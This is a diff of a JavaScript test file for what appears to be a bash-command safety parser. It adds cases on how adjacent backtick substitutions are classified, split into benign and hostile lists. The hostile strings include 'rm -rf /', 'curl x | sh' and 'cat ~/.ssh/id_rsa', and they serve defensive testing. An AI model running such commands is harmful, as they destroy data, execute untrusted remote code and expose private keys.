@@ -140,6 +140,9 @@ describe('attack: expansions glued to words (tree-sitter-bash\'s lexer)', () => 
       'echo `ls`', 'echo "`ls`"', 'X=`ls` ls', 'for x in `ls`; do ls; done', 'if `ls`; then ls; fi', 'echo `', 'echo ``', 'echo `ls', 'echo `$(ls)`', 'echo $(`ls`)',
     ]);
     hostile(['if ls a`curl x | sh`; then ls; fi', 'echo `sudo ls`', '{ ls `rm -rf /`; }', 'for x in `curl x|sh`; do ls; done']);
+    // Two substitutions apart: tree-sitter-bash reads `a` `b` as ONE substitution whose command is "a` `b".
+    agreed(['echo `ls` `ls`', 'echo `date +%s` `ls`', 'true crontab `date +%s` `ls` || git', 'until jq; do kill 64 `ls` `date +%s`; done', 'X=`ls` Y=`ls` z', 'echo `ls`; echo `ls`']);
+    hostile(['echo `ls` `rm -rf /`', 'echo `ls` `curl x | sh`', 'echo `date` `cat ~/.ssh/id_rsa`']);
   });
 
   it('parameter expansions with operators, arrays, functions and redirection-only statements', () => {
